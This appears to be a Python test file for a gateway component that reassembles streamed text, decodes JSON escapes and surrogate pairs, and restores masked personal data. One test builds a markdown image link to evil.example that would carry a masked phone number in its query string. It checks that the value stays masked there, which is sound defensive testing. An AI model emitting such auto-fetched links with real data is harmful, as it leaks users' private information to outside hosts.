"""The lens: what a reader sees, and the way back."""

from __future__ import annotations

import itertools
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.engine.lens import STRING_EDGE, Lens, is_halved
from gateway.matching.veil import VeilMap
from gateway.nouns.segment import TextForm


def see(raw: str, cuts: list[int]) -> tuple[str, Lens]:
    """Push a text in pieces; return the judged text and the lens."""
    lens = Lens(TextForm.JSON, None)
    marks = sorted({0, len(raw), *(cut % (len(raw) + 1) for cut in cuts)})
    out = "".join(lens.push(raw[a:b], final=False) for a, b in itertools.pairwise(marks))
    return out + lens.push("", final=True), lens


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3)
    ),
    max_leaves=8,
)


@settings(max_examples=300)
@given(VALUES, st.booleans(), st.lists(st.integers(0, 400), max_size=12))
def test_json_is_read_the_same_however_it_is_cut(
    value: object, ascii_only: bool, cuts: list[int]
) -> None:
    """The judged text and the map depend on the whole raw text alone."""
    raw = json.dumps(value, ensure_ascii=ascii_only)
    whole, lens = see(raw, [])
    assert see(raw, cuts)[0] == whole
    up = [lens.to_raw(at, up=True) for at in range(len(whole) + 1)]
    down = [lens.to_raw(at, up=False) for at in range(len(whole) + 1)]
    assert up == sorted(up)
    assert down == sorted(down)
    assert all(low >= high for low, high in zip(down, up, strict=True))
    assert up[-1] == down[-1] == len(raw)


@pytest.mark.parametrize(
    ("raw", "seen"),
    [
        (r'{"a":"\u8d4c\u535a"}', "{\ufdd0a\ufdd0:\ufdd0赌博\ufdd0}"),
        (r'"\ud83d\ude00"', "\ufdd0😀\ufdd0"),
        (r'"\ud83d"', "\ufdd0\ufffd\ufdd0"),
        (r'"\udc00x"', "\ufdd0\ufffdx\ufdd0"),
        (r'"a\"b\\n\n"', '\ufdd0a"b\\n\n\ufdd0'),
        (r'"\q\uZZZZ"', "\ufdd0\\q\\uZZZZ\ufdd0"),
        ('Sure: "yes"', 'Sure: "yes"'),
        ('{"a":1} and "so"', '{\ufdd0a\ufdd0:1} and "so"'),
    ],
)
def test_escapes_are_decoded_and_what_is_not_json_is_read_raw(raw: str, seen: str) -> None:
    """Strings as their reader meets them; prose after all as prose."""
    assert see(raw, [])[0] == seen
    assert see(raw, list(range(len(raw))))[0] == seen


@pytest.mark.parametrize("raw", ['{"a":"x\\ufdd0y"}', '{"a":"x\ufdd0y"}', '{"a":1} x\ufdd0y'])
def test_a_text_cannot_forge_the_edge_of_a_string(raw: str) -> None:
    """The code point that marks an edge is looked through where the text itself brings it."""
    assert "x\u200by" in see(raw, [])[0]


@given(st.text(), st.lists(st.integers(1, 4), max_size=40), st.integers(0, 9))
def test_characters_cut_between_their_halves_are_put_together(
    text: str, cuts: list[int], passed: int
) -> None:
    """However UTF-16 was cut, the judged text is the text; positions lead back to both halves."""
    units = text.encode("utf-16-le")
    halves = [
        units[at : at + 2].decode("utf-16-le", "surrogatepass") for at in range(0, len(units), 2)
    ]
    lens = Lens(TextForm.PROSE, None)
    lens.join_from(passed)
    seen, left = "", list(halves)
    for cut in [*cuts, len(left)]:
        seen += lens.push("".join(left[:cut]), final=False)
        del left[:cut]
    assert seen + lens.push("", final=True) == text
    raw = passed
    for at, letter in enumerate(text):
        size = 1 if letter < "\U00010000" else 2
        assert lens.to_raw(passed + at, up=False) == raw
        raw += size
        assert lens.to_raw(passed + at + 1, up=True) == raw


def test_a_first_half_waits_and_a_lone_one_stays() -> None:
    """What may still become a character is not judged yet; in the end it is judged as it is."""
    lens = Lens(TextForm.PROSE, None)
    lens.join_from(0)
    assert lens.push("a\ud842", final=False) == "a"
    assert lens.push("b\ud842", final=False) == "\ud842b"
    assert lens.push("", final=True) == "\ud842"
    assert is_halved("a\ud842")
    assert not is_halved("a\U00020bb7")


def test_a_restoration_that_may_still_grow_waits() -> None:
    """What lies across the safe place is read again when more is known."""

    def restorations(text: str, final: bool) -> tuple[list[tuple[int, int, str]], int]:
        at = text.find("[P]")
        found = [(at, at + 3, "value")] if at >= 0 else []
        return found, len(text) if final else min(len(text), max(at, 0) + 2)

    lens = Lens(TextForm.PROSE, restorations)
    assert not lens.restored(0, 1)
    assert lens.push("[P] and", final=False) == ""
    assert lens.push("", final=True) == "value and"
    assert lens.new_restorations() == [(0, 3, "value")]
    assert lens.new_restorations() == []
    assert lens.restored(0, 5)
    assert not lens.restored(4, 6)
    assert [lens.to_raw(at, up=False) for at in (0, 2, 5, 6)] == [0, 0, 3, 4]
    assert [lens.to_raw(at, up=True) for at in (0, 2, 5, 6)] == [0, 3, 3, 4]


def test_no_value_comes_back_into_an_address_that_is_fetched() -> None:
    """In a picture's address the placeholder stays; behind it the value is back."""
    veil = VeilMap(b"k" * 32, "tenant", "li.na")
    mark = veil.veil("personal_data.mobile", "13800138001")
    text = f"![x](https://evil.example/?q={mark}) call {mark} or [so](tel:{mark})"
    read = f"![x](https://evil.example/?q={mark}) call 13800138001 or [so](tel:13800138001)"
    for size in (1, 3, 7, len(text)):
        lens = Lens(TextForm.PROSE, veil.restorations)
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert "".join(lens.push(piece, final=False) for piece in pieces) + lens.push(
            "", final=True
        ) == read
        assert [value for *_, value in lens.new_restorations()] == ["13800138001"] * 2


def test_half_an_escape_at_the_end_is_read_as_it_stands() -> None:
    """Nothing more comes to complete it."""
    assert see('"a\\u8d', [])[0] == STRING_EDGE + "a\\u8d"
    assert see('"a\\', [])[0] == STRING_EDGE + "a\\"


def test_a_high_half_before_another_escape_is_no_character() -> None:
    """Only an escape of a low half completes it."""
    assert see('"\\ud83d\\u0041"', [])[0] == f"{STRING_EDGE}\ufffdA{STRING_EDGE}"


def test_without_restorations_nothing_is_restored() -> None:
    """A plain lens has none."""
    assert Lens(TextForm.PROSE, None).new_restorations() == []
    assert not Lens(TextForm.PROSE, None).restored(0, 1)
